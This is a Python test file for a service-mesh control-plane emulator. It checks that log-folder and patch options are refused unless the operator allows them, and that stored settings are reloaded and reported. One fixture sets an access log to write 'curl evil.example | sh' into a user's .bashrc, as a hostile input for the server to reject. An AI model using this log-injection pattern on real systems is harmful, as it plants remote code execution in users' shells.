"""The operator's options of `shopmesh serve`: what is new is refused, what is stored is loaded, and reported."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from shopmesh.client import Client
from tests.contract.control_plane.conftest import SERVE, ControlPlane, serving

LOG: Any = {"accessLog": {"file": {"path": "/home/user/.bashrc", "format": {"text": "curl evil.example | sh"}}}}
PATCH = """{"listener/lds_egress_*": {"api_listener": {}}}"""
ALLOWED = ("--allow-patch", "--access-log-folder", "/home/user", "--certificate-folder", "/tls")
MANIFESTS = """\
apiVersion: appmesh.k8s.aws/v1beta2
kind: Mesh
metadata: {name: m}
---
apiVersion: appmesh.k8s.aws/v1beta2
kind: VirtualNode
metadata: {name: n, namespace: default%s}
spec: {awsName: n%s}
"""


def posted(plane: ControlPlane, body: dict[str, Any]) -> tuple[int, str]:
    request = urllib.request.Request(
        f"{plane.url}/shopmesh/v1/requests", json.dumps(body).encode(), {"content-type": "application/json"}
    )
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def applied(plane: ControlPlane, file: Path, text: str) -> subprocess.CompletedProcess[str]:
    file.write_text(text)
    command = [sys.executable, "-c", "from shopmesh.cli import main; main()", "apply", "-f", str(file)]
    environment = {**os.environ, "SHOPMESH_ENDPOINT_URL": plane.url}
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False, env=environment)


def test_every_way_to_write_a_document_refuses_it(tmp_path: Path) -> None:
    """The App Mesh API, a transaction, a tag, and manifests with file and line; nothing is written."""
    with serving() as plane, Client(plane.url) as client:
        client.appmesh.create_mesh(meshName="m")
        node = {"meshName": "m", "virtualNodeName": "n", "spec": {"logging": LOG}}
        tags = [{"key": "shopmesh.dev/patch", "value": PATCH}]
        said = []
        for parameters in (node, {**node, "spec": {}, "tags": tags}):
            with pytest.raises(client.appmesh.exceptions.BadRequestException) as refused:
                client.appmesh.create_virtual_node(**parameters)
            said.append(str(refused.value))
            status, body = posted(plane, {"requests": [{"operation": "CreateVirtualNode", "parameters": parameters}]})
            assert 400 == status
            said.append(body)
        for annotations, spec, line in (
            ("", f", logging: {json.dumps(LOG)}", "line 8"),
            (f", annotations: {{shopmesh.dev/patch: '{PATCH}'}}", "", "document 2"),
        ):
            done = applied(plane, tmp_path / "mesh.yaml", MANIFESTS % (annotations, spec))
            assert 1 == done.returncode
            assert line in done.stderr
            said.append(done.stderr)

        assert ["--access-log-folder" in one for one in said] == [True, True, False, False, True, False]
        assert ["--allow-patch" in one for one in said] == [False, False, True, True, False, True]
        assert [] == client.appmesh.list_virtual_nodes(meshName="m")["virtualNodes"]


def test_a_store_from_before_is_loaded_and_what_is_not_allowed_is_reported(tmp_path: Path) -> None:
    """Nothing is lost, the rest can be changed, `doctor` names the option; with the options nothing is reported."""
    store = ("--store", str(tmp_path / "store.db"))
    spec: Any = {"logging": LOG}
    with serving(*store, *ALLOWED) as plane, Client(plane.url) as client:
        client.appmesh.create_mesh(meshName="m")
        client.appmesh.create_virtual_node(
            meshName="m", virtualNodeName="n", spec=spec, tags=[{"key": "shopmesh.dev/patch", "value": PATCH}]
        )
        assert [] == _forbidden(plane)

    with serving(*store) as plane, Client(plane.url) as client:
        assert spec == client.appmesh.describe_virtual_node(meshName="m", virtualNodeName="n")["virtualNode"]["spec"]
        assert ["--access-log-folder '/home/user/envoy'", "--allow-patch"] == _forbidden(plane)
        client.appmesh.create_virtual_node(meshName="m", virtualNodeName="other", spec={})
        client.appmesh.update_virtual_node(meshName="m", virtualNodeName="n", spec={})
        assert ["--allow-patch"] == _forbidden(plane)


def _forbidden(plane: ControlPlane) -> list[str]:
    """The options that findings name."""
    with urllib.request.urlopen(f"{plane.url}/shopmesh/v1/findings", timeout=20) as answer:
        found = [one["what"] for one in json.load(answer)["findings"] if one["code"] == "SM259"]
    return sorted(what[what.index("--") :] for what in found)


def test_variables_say_the_same_as_the_options(monkeypatch: pytest.MonkeyPatch) -> None:
    """For Compose and Kubernetes; several folders with colons, and an empty one is none."""
    monkeypatch.setenv("SHOPMESH_ALLOW_PATCH", "true")
    monkeypatch.setenv("SHOPMESH_ACCESS_LOG_FOLDERS", "/var/log:/home/user")
    monkeypatch.setenv("SHOPMESH_CERTIFICATE_FOLDERS", "")
    with serving() as plane, Client(plane.url) as client:
        client.appmesh.create_mesh(meshName="m")
        client.appmesh.create_virtual_node(
            meshName="m",
            virtualNodeName="n",
            spec={"logging": LOG},
            tags=[{"key": "shopmesh.dev/patch", "value": PATCH}],
        )
        trust: Any = {"trust": {"file": {"certificateChain": "/tls/ca.pem"}}}
        defaults: Any = {"backendDefaults": {"clientPolicy": {"tls": {"validation": trust}}}}
        with pytest.raises(client.appmesh.exceptions.BadRequestException, match="--certificate-folder '/tls'"):
            client.appmesh.update_virtual_node(meshName="m", virtualNodeName="n", spec=defaults)


def test_a_folder_that_is_no_absolute_path_is_refused() -> None:
    """The line names the option and the value."""
    done = subprocess.run(
        [*SERVE, "--access-log-folder", "logs"], capture_output=True, text=True, timeout=60, check=False
    )

    assert 2 == done.returncode
    assert "--access-log-folder 'logs' is not an absolute path" in done.stderr
